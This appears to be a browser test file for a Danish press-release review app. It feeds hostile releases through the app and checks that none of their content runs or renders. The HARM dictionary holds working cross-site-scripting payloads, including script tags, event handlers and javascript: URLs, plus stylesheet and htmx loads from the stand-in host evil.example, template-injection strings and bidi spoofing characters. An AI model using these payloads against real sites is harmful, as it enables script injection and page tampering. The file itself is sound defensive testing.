"""Releases that mean harm are text: nothing of them runs, is fetched, hides or breaks the page."""

from __future__ import annotations

import json
from collections.abc import Iterator
from html import escape
from pathlib import Path
from typing import Final

import pytest
from playwright.sync_api import expect
from tests.review.browser.reviewers import Enter, Watched
from tests.review.browser.runs import patterns_without, run, serving, write

from extract.store import opened
from extract.store.judging import standing

GIVES: Final = "Fonden støtter projektet »{}« med 2 mio. kr."
HARM: Final = {
    "script": "<script>alert(1)</script>",
    "handler": '"><img src=x onerror="alert(2)">',
    "svg": "<svg onload=alert(3)><script>alert(4)</script></svg>",
    "style": "</style><style>*{display:none!important}</style><link rel=stylesheet href=//evil.example/a.css>",
    "field": "</textarea></title></noscript><iframe src=javascript:alert(5)></iframe>",
    "link": '<a href="javascript:alert(6)">klik</a>',
    "template": "{{ 7 * 7 }} {% raw %} ${7*7} <%= 7 %>",
    "htmx": '<div hx-get="//evil.example/" hx-trigger="load" data-key="a" data-page="x"></div>',
    "bidi": "rm \u202egpj.exe\u2066 og \u200bskjult\u00ad",
    "entities": "&lt;b&gt; &amp;#60; &#x3c;script&#x3e;",
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    texts = {
        f"{name}.json": json.dumps({
            "id": number, "title": f"Ny aftale: {escape(harm)}", "url": "javascript:alert(7)", "language": harm,
            "published": "2026-01-02T07:30:00+01:00", "publisher": {"id": 1, "name": HARM["script"]},
            "body": f"<p onclick='alert(8)'>{escape(GIVES.format(harm))}</p><script>alert(9)</script><p>Slut {escape(harm)}.</p><p>{GIVES.format('Brønd')}</p>",
        })
        for number, (name, harm) in enumerate(HARM.items(), 1)
    }  # fmt: skip
    write(folder / "in", texts | {"long.json": _long("2 mio. kr.")})
    run(folder / "in", folder / "press.db", patterns_without(folder / "earlier", "money.role.grant.stotte"))
    write(folder / "in", {"long.json": _long("3 mio. kr.")})
    run(folder / "in", folder / "press.db")
    return folder / "press.db"


def _long(amount: str) -> str:
    """A release of over a million characters, in the middle of which there is an amount. Nothing is extracted from it."""
    lines = f"<p>{'Her står der noget, som ingen gider læse, om vejret og vejen og vinden. ' * 20}</p>" * 375
    body = f"{lines}<p>Nålen koster {amount}</p>{lines}"
    assert len(body) > 1_000_000
    return json.dumps({"id": 99, "title": "En lang en", "body": body, "publisher": {"id": 2, "name": "Høstakken"}})


@pytest.fixture
def me(hostile: Path, enter: Enter) -> Iterator[Watched]:
    with serving(hostile, "1", "2") as served:
        me = enter(served.link)
        me("#name").fill(HARM["handler"])
        me.press("Enter")
        expect(me("#clusters")).to_be_visible()
        yield me


def test_nothing_of_a_hostile_release_does_anything(me: Watched, hostile: Path) -> None:
    shown, links = "", list[str]()
    for page in ("1", "2"):
        me.open(f"/c/1?clusters=all&page={page}")
        _harmless(me)
        shown += me("#changes").inner_text()
        links += me("#changes tbody a").evaluate_all("all => all.map(one => one.getAttribute('href'))")
    lines = (hostile.parent / "out" / "releases.jsonl").read_text("utf-8").splitlines()
    titles = [str(json.loads(line)["title"]) for line in lines]
    assert sum("<" in title for title in titles) > 4
    for title in titles:
        if "\u2066" not in title:  # it is drawn as its number
            assert " ".join(title.split())[:80] in " ".join(shown.split())
    assert len(links) == len(set(links)) > len(HARM)
    for link in links[::3]:
        me.open(link)
        expect(me("#text")).to_be_visible()
        _harmless(me)
        me.page.keyboard.press("?")
        me.page.keyboard.press("Escape")
    for release in set(_history_links(me, links)):
        me.open(release)
        _harmless(me)

    # What reviewers write is no better.
    me.open(links[0])
    me("#note").fill(HARM["svg"])
    me("#judge").get_by_role("button", name="Afvis").click()
    expect(me("#said")).to_be_visible()
    me.open("/judgements")
    expect(me("#batches")).to_contain_text(HARM["svg"])
    expect(me("#batches")).to_contain_text(HARM["handler"])
    _harmless(me)

    _selection_after_marks_that_turn_the_text(me, hostile)
    _a_long_one_in_windows(me)


def _harmless(me: Watched) -> None:
    assert (
        me("main :is(img, svg, script, style, link, iframe, object, embed, [onload], [onerror], [onclick])").count()
        == 0
    )
    assert me('a[href^="javascript" i], [hx-get]:not(#going), form[action*="//"]').count() == 0
    assert me("script").count() == 2
    assert me('a[target="_blank"]').count() == 0  # no sender gave an address that a browser may follow
    marks = me.page.evaluate(
        "[...document.body.innerText].filter(one => /[\\u202a-\\u202e\\u2066-\\u2069\\u200b]/u.test(one))"
    )
    assert marks == []


def _history_links(me: Watched, links: list[str]) -> Iterator[str]:
    for link in links[:3]:
        me.open(link)
        found = me(".sheet-head").get_by_role("link", name="Historik").get_attribute("href")
        assert found is not None
        yield found


def _selection_after_marks_that_turn_the_text(me: Watched, store: Path) -> None:
    """What is drawn as its number is one character of the text that it stands in."""
    me.open("/c/1?words=gpj.exe")
    me("#changes tbody a").first.click()
    expect(me("#text .ctl").first).to_have_text("U+2066")
    me.drag_over("skjult")
    me.press("s")
    expect(me("#taken")).to_contain_text("skjult")
    me(".save").click()
    expect(me("#said")).to_contain_text("Rettet.")
    with opened(store) as found:
        (kept,) = [one for one in standing(found) if one.verdict == "correct"]
    assert kept.value == "skjult"


def _a_long_one_in_windows(me: Watched) -> None:
    me.open("/c/1?words=ingen+gider")
    me("#changes tbody a").first.click()
    expect(me("#text .k-come")).to_have_text("3")
    assert len(me("#text").inner_text()) < 60_000
    start = me("#text [data-at]").first.get_attribute("data-at")
    me("#text .window a").last.click()
    expect(me("#text [data-at]").first).not_to_have_attribute("data-at", str(start))
    expect(me("#text .k-come")).to_have_count(0)
    me.page.go_back()
    expect(me("#text .k-come")).to_have_text("3")
